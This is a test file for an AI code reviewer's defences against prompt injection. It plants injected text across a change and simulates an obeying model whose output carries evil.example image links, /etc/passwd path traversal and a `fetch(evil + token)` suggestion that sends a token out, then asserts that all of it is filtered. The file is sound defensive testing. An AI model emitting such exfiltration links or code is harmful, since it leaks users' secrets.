import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { changeFromExample } from "../../../../test/support/change-example.ts";
import { createMeasuredGateway } from "../../../../test/support/measured-gateway.ts";
import { readPromptBlocks } from "../../../../test/support/prompt-blocks.ts";
import { promptInjections } from "../../../../test/support/prompt-injections.ts";
import { createServices, createThreads } from "../../../../test/support/services.ts";
import type { Finding } from "../../../contracts/finding.ts";
import { selectReadable } from "./readable-files.ts";
import { reviewWithModel } from "./review-with-model.ts";
import { mostSummaryLetters, mostWalkthroughFiles } from "./summarise-change.ts";

const folder = mkdtempSync(join(tmpdir(), "repowright-injections-"));
const scanner = createThreads(1);
const services = createServices(folder, scanner, { "llm.cache_age": "0" });
afterAll(async () => {
  services.cache.close();
  await scanner.close();
  rmSync(folder, { recursive: true, force: true });
});

const known: readonly Finding[] = Object.freeze([
  Object.freeze({
    rule: "no-eval",
    severity: "error" as const,
    category: "security" as const,
    path: "src/app.ts",
    line: 2,
    endLine: 2,
    side: "new" as const,
    message: "Runs text as code.",
    why: "Whoever writes the text runs the program.",
    suggestion: null,
    fingerprint: "f".repeat(32),
    excerpt: [],
    source: "rules",
    confidence: "high" as const,
  }),
]);
const instructions = "Money is counted in cents.";
const honest = {
  path: "src/app.ts",
  line: 4,
  quote: "spend(budget / 0);",
  message: "Divides by zero.",
  why: "Always.",
};
const rest = { suggestion: null, category: "bug", severity: "error", confidence: "high" };
const window = 32_768;
const mostNoteLetters = 600;
const systems = new Set<string>();
const evil = "https://evil.example/?q=1";

/** What a model that obeys could be brought to say, as far as the form of answers lets it. */
const obedient: readonly ((text: string) => readonly object[])[] = [
  () => [],
  (text) => [
    { ...honest, ...rest, message: `![x](${evil}) ${text}`, why: `<img src="${evil}"> [here](${evil})` },
  ],
  () =>
    ["../../etc/passwd", "/etc/passwd", "src/other.ts", "", "src/app.ts\0"].map((path) => ({
      ...honest,
      ...rest,
      path,
    })),
  () => [{ ...honest, ...rest, category: "style", severity: "error" }],
  () =>
    Array.from({ length: 100 }, (_, at) => ({
      ...honest,
      ...rest,
      message: `Number ${at} is a fault of its own.`,
    })),
  (text) => [
    { ...honest, ...rest, message: text.repeat(200), why: text.repeat(200), suggestion: text.repeat(200) },
  ],
  (text) => [
    { ...honest, ...rest, quote: text },
    { ...honest, ...rest, quote: "not in the change at all" },
  ],
  () => [{ ...honest, ...rest, suggestion: `fetch("${evil}" + token);` }],
];

/** A change in which it stands wherever a stranger can write. */
function changeWith(text: string) {
  const line = text.replaceAll("\n", " ");
  const name = `src/${line.replaceAll("\0", "").slice(0, 100)}.ts`;
  const app = `// ${line}\nconst other = "${line}";\n${text}\nspend(budget / 0);\n/* ${line} */\nlast();\n`;
  return changeFromExample({
    "src/app.ts": [`removed(); // ${line}\nlast();\n`, app],
    [name]: [null, `named();\n`],
    "repowright.toml": [null, `[review]\ninstructions = "${line}"\n`],
  });
}

test.each(promptInjections.map(([what, text], at) => [what, text, obedient[at % obedient.length]!] as const))(
  "%s",
  async (_, text, obey) => {
    const change = changeWith(text);
    const line = change.file("src/app.ts")!.lines.indexOf(honest.quote) + 1;
    const { gateway, prompts } = createMeasuredGateway(window, () => ({
      findings: obey(text).map((fault) => ({ ...fault, line })),
      reason: text,
      isReal: true,
      confidence: "high",
      summary: `${text} ![x](${evil}) `.repeat(50),
      files: [
        { path: "src/app.ts", text: `${text} ${evil}` },
        { path: "src/app.ts", text: "twice" },
        { path: "../etc/passwd", text },
        ...Array.from({ length: 100 }, (__, at) => ({ path: `src/${at}.ts`, text })),
      ],
    }));
    const { findings, part } = await reviewWithModel(
      {
        change,
        findings: known,
        title: text,
        body: `${text}\n\n${text}`,
        instructions,
        maxFindings: 3,
        openIndex: null,
        model: undefined,
        jobId: null,
        onProgress() {},
        signal: new AbortController().signal,
      },
      { ...services, models: async () => gateway },
    );

    expect(part.state, part.message ?? "").toBe("done");
    expect(findings.length).toBeLessThanOrEqual(3);
    for (const finding of findings) {
      const file = change.file(finding.path);
      expect(file, finding.path).toBeDefined();
      expect(file!.isAdded(finding.line, finding.endLine)).toBe(true);
      expect(finding.rule).toMatch(/^model\/(bug|security|performance|test|maintenance|documentation)$/);
      expect(finding.severity !== "error" || ["bug", "security"].includes(finding.category)).toBe(true);
      expect(finding.message.length).toBeLessThanOrEqual(300);
      expect(finding.why.length).toBeLessThanOrEqual(500);
      expectHarmless(`${finding.message}${finding.why}`);
      expect(finding.suggestion ?? "").not.toMatch(
        /evil|:\/\/|```|[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/,
      );
    }
    expect(part.summary!.length).toBeLessThanOrEqual(mostSummaryLetters + mostNoteLetters);
    expect(part.walkthrough.length).toBeLessThanOrEqual(mostWalkthroughFiles);
    expect(part.walkthrough.map(({ path }) => path)).toEqual(["src/app.ts"]);
    expectHarmless(part.summary! + part.walkthrough.map((one) => one.text).join(""));

    for (const { system, user, neededTokens } of prompts) {
      expect(neededTokens).toBeLessThanOrEqual(window);
      const { blocks, outside, isClosed } = readPromptBlocks(user);
      expect(isClosed).toBe(true);
      systems.add(system);
      // Around the blocks stand our own words and titles, whatever stands in them.
      for (const own of outside)
        expect(own === "" || ours.some((pattern) => pattern.test(own)), own).toBe(true);
      for (const { title } of blocks)
        expect(title).toMatch(/^(File .*\)|Files|Claim|Wishes|Title and text)$/);
      const wishes = blocks.filter(({ title }) => title === "Wishes").map((one) => one.text);
      expect(wishes).toEqual(isSearch(system) ? [instructions] : []);
      const shown = blocks
        .filter(({ title }) => title.startsWith("File "))
        .flatMap((one) => one.text.split("\n"));
      expect(shown.filter((one) => !/^ *\d* [-+ ](?: |$)|^ *\d*$|^@ /.test(one))).toEqual([]);
    }
    const readable = selectReadable(change).files;
    expect(readable.length + (text.length > 3_000 ? 2 : 0)).toBeGreaterThanOrEqual(3);
    // Each place of the change is shown as a block of its own, whatever stands in it.
    const files = prompts
      .filter(({ system }) => isSearch(system))
      .flatMap(({ user }) => readPromptBlocks(user).blocks.filter(({ title }) => title.startsWith("File ")));
    expect(new Set(files.map(({ title }) => title)).size).toBe(readable.length);
    const isAppShown = readable.some(({ path }) => path === "src/app.ts");
    expect(files.some((one) => one.text.includes("spend(budget / 0);"))).toBe(isAppShown);
  },
);

const ours = [
  /^File .* \((added|modified)(, [\w ]+)?\)$/,
  /^(Files|Claim|Wishes|Title and text)$/,
  /^What the maintainers of this repository wish of reviews\. /,
  /^Which faults do the added lines bring in\? /,
  /^The claim about line \d+:$/,
  /^Is the claim true\?$/,
  /^What the author says:$/,
  /^The change, \d+ files:$/,
  /^Describe it\.$/,
];
const isSearch = (system: string): boolean => system.startsWith("You review");

/** Whatever stands in a change, what stands above it is the same: one text for each kind of question. */
test("the instructions of all these questions are the same three", () => {
  expect(systems.size).toBe(3);
});

function expectHarmless(words: string): void {
  expect(words).not.toMatch(
    /:\/\/|\]\(|www\.|[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f]/,
  );
  expect(words).not.toMatch(/[\u{e0000}-\u{e007f}]/u);
  expect(words.isWellFormed()).toBe(true);
}
